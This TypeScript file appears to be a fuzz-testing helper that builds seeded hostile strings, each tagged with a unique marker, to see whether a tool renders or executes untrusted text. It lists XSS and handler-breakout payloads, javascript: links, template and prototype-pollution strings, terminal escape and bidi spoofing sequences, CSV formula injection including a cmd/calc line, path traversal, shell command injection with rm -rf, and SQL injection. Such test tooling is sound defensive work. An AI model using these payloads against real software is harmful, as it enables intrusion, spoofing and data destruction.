import { SeededRandom } from "../fuzz/random.ts";

/** A text that harms whoever takes it for something else than text. */
export interface HostileString {
  readonly kind: HostileKind;
  /** A word that is in no other string and nowhere else: what carries it came from here. */
  readonly marker: string;
  /** Its bytes as letters of one byte each, ready to be put into a packet. */
  readonly wire: string;
}

/** What every marker looks like. */
export const MARKER = /hfx[0-9a-z]{4}x/;
/** A name that nothing may ever ask for. */
export const ELSEWHERE = "hostile.invalid";

/** Says in the page that it ran: nothing of ours sets this. */
const ran = (m: string): string => `window.hfxRan='${m}'`;

type Make = (marker: string) => string;

/** One byte that is no UTF-8 is written as a letter of this private row, and made a byte at the end. */
const RAW = 0xf700;
const raw = (...bytes: readonly number[]): string =>
  bytes.map((byte) => String.fromCharCode(RAW + byte)).join("");

const MAKERS = {
  markup: [
    (m) => `<img src=x onerror="${ran(m)}">`,
    (m) => `<script>${ran(m)}</script>`,
    (m) => `"><svg/onload=${ran(m)}>`,
    (m) => `</title></textarea></style></script><script>${ran(m)}</script>`,
    (m) => `<iframe srcdoc="<script>parent.${ran(m)}</script>"></iframe>`,
    (m) => `<x-${m} data-${m}="1" class="${m}">${m}</x-${m}>`,
    (m) => `<img src="http://${ELSEWHERE}/${m}.png"><link rel=stylesheet href=//${ELSEWHERE}/${m}>`,
    (m) => `<meta http-equiv=refresh content="0;url=http://${ELSEWHERE}/${m}"><base href=//${m}>`,
    (m) => `<math><mtext><table><mglyph><style><img src=x onerror=${ran(m)}>`,
    (m) => `<details open ontoggle=${ran(m)}><object data=//${ELSEWHERE}/${m}></object>`,
    (m) => `<form action=//${ELSEWHERE}/${m}><input name=${m} autofocus onfocus=${ran(m)}>`,
    (m) => `&lt;img src=x onerror=${ran(m)}&gt;&#x3c;b id=${m}&#x3e;`,
    (m) => `<!--${m}--!><script>${ran(m)}</script><![CDATA[<b id=${m}>]]>`,
  ],
  handlers: [
    (m) => `" onmouseover="${ran(m)}" data-${m}="`,
    (m) => `' autofocus onfocus='${ran(m)}' ${m}='`,
    (m) => `\` onerror=${ran(m)} ${m}=\``,
  ],
  links: [
    (m) => `javascript:${ran(m)}`,
    (m) => `JaVa\tScRiPt:${ran(m)}//http://a/`,
    (m) => `data:text/html,<script>${ran(m)}</script>`,
    (m) => `vbscript:${m}`,
    (m) => `http://${ELSEWHERE}/${m}`,
    (m) => `//${ELSEWHERE}/${m}`,
    (m) => `\\\\${ELSEWHERE}\\${m}`,
    (m) => `http://127.0.0.1/login?token=${m}#<script>${ran(m)}</script>`,
  ],
  templates: [
    (m) => `{{constructor.constructor("${ran(m)}")()}}`,
    (m) => `\${${ran(m)}}`,
    (m) => `<%= ${m} %>#{${ran(m)}}`,
    (m) => `x;background:url(http://${ELSEWHERE}/${m})`,
    (m) => `</style><style>*{background:url(//${ELSEWHERE}/${m})}`,
    (m) => `__proto__[${m}]`,
    () => "__proto__",
    () => "constructor",
    () => "toString",
  ],
  terminal: [
    (m) => `\x1b[2J\x1b[H${m}`,
    (m) => `\x1b]0;${m}\x07`,
    (m) => `\x1b]8;;http://${ELSEWHERE}/${m}\x1b\\click\x1b]8;;\x1b\\`,
    (m) => `\x1b]52;c;${m}\x07`,
    (m) => `\x9b31m${m}\x9b0m`,
    (m) => `\x90q${m}\x9c\x9d0;${m}\x9c`,
    (m) => `${raw(0x9b)}31m${m}${raw(0x9d)}0;${m}${raw(0x9c)}`,
    (m) => `\x1b[6n\x1b[?1049h\x1bc${m}`,
    (m) => `${m}\rclean\x08\x08\x08\x08\x08\x7f\x07\x0e`,
    (m) => `\x1bP+q${m}\x1b\\\x1b]1337;File=name=${m}:\x07`,
    (m) => `${m}\x85next\x0b\x0c\x1c\x1d`,
  ],
  bidi: [
    (m) => `${m}\u202egnp.exe`,
    (m) => `\u2066${m}\u2069\u200f\u061c`,
    (m) => `a\u200b${m}\ufeff\u200d\u2060\u00ad`,
    (m) => `\u2067\u202d${m}`,
    (m) => `${m}\u2028line\u2029paragraph`,
    (m) => `${m}\u{e0001}\u{e0041}\u180e\ufff9`,
  ],
  bytes: [
    (m) => `${m}\0${m}`,
    (m) => `${m}${raw(0xed, 0xa0, 0x80)}`,
    (m) => `${m}${raw(0xed, 0xb0, 0x80, 0xed, 0xa0, 0x80)}`,
    (m) => `${raw(0xc0, 0xaf, 0xc0, 0xbc)}script${m}`,
    (m) => `${raw(0xff, 0xfe)}${m}${raw(0xe2, 0x82)}`,
    (m) => `${m}${raw(0xf4, 0x90, 0x80, 0x80)}\uffff\ufffd`,
    (m) => `${raw(0xe2, 0x80)}${m}${raw(0xae)}`,
  ],
  formulas: [
    (m) => `=HYPERLINK("http://${ELSEWHERE}/${m}","${m}")`,
    (m) => `=cmd|' /C calc'!${m}`,
    (m) => `+${m}+1`,
    (m) => `-${m}`,
    (m) => `@SUM(${m})`,
    (m) => `\t=${m}`,
    (m) => `\r=${m}`,
    (m) => `\n=${m}`,
    (m) => ` =${m}`,
    (m) => `\u200b=${m}`,
    (m) => `",=${m}`,
    (m) => `,=${m};=${m}`,
    (m) => `\uff1d${m}`,
    (m) => `\0=${m}`,
  ],
  lines: [
    (m) => `${m}\nentry 99 root ledger.clear`,
    (m) => `${m}\r\n{"type":"read.packets","actor":"${m}"}`,
    (m) => `${m}", "admin": "true`,
    (m) => `${m}\tC1\t10.0.0.1\t-`,
    (m) => `#fields\t${m}\n#close`,
    (m) => `\\x3cb id=${m}\\x3e\\`,
  ],
  long: [
    (m) => m.repeat(60),
    (m) => `${m}${"<b>".repeat(400)}`,
    (m) => `${m}${"\u202e".repeat(200)}`,
    (m) => `${m}${"A".repeat(3000)}`,
  ],
  paths: [
    (m) => `../../../../../../tmp/${m}`,
    (m) => `..\\..\\..\\${m}.exe`,
    (m) => `/etc/cron.d/${m}`,
    (m) => `C:\\Windows\\${m}`,
    (m) => `%2e%2e%2f%2e%2e%2f${m}`,
    (m) => `${m}.html`,
    (m) => `${m}.svg\0.png`,
    (m) => `file:///etc/${m}`,
    (m) => `-rf ${m}`,
  ],
  commands: [
    (m) => `%s%s%n%${m}`,
    (m) => `%99999999d${m}`,
    (m) => `$(touch /tmp/${m})`,
    (m) => `\`touch /tmp/${m}\`; rm -rf ${m}`,
    (m) => `'; DROP TABLE conn; --${m}`,
    (m) => `" or "1"=="1" or dns.query == "${m}`,
    (m) => `{0}%${m}%`,
  ],
} satisfies Readonly<Record<string, readonly Make[]>>;

/** What a string is made to harm. */
export type HostileKind = keyof typeof MAKERS;

/** So many strings of all kinds in turn, the same ones for the same seed; every third is two in one. */
export function hostileStrings(count: number, seed = 1): HostileString[] {
  const random = new SeededRandom(seed);
  const kinds = Object.keys(MAKERS) as HostileKind[];
  const drawn = (of: HostileKind, marker: string): string => random.pick<Make>(MAKERS[of])(marker);
  return Array.from({ length: count }, (_, n) => {
    const kind = kinds[n % kinds.length]!;
    const marker = `hfx${n.toString(36).padStart(4, "0")}x`;
    const text = drawn(kind, marker);
    const more = random.below(3) === 0 ? drawn(random.pick(kinds), marker) : "";
    return { kind, marker, wire: wireOf(text + more) };
  });
}

/** UTF-8 as letters of one byte; what was to be no UTF-8 is none. */
function wireOf(text: string): string {
  return [...text]
    .map((letter) => {
      const code = letter.codePointAt(0)!;
      if (code >= RAW && code < RAW + 256) return String.fromCharCode(code - RAW);
      return Buffer.from(letter).toString("latin1");
    })
    .join("");
}
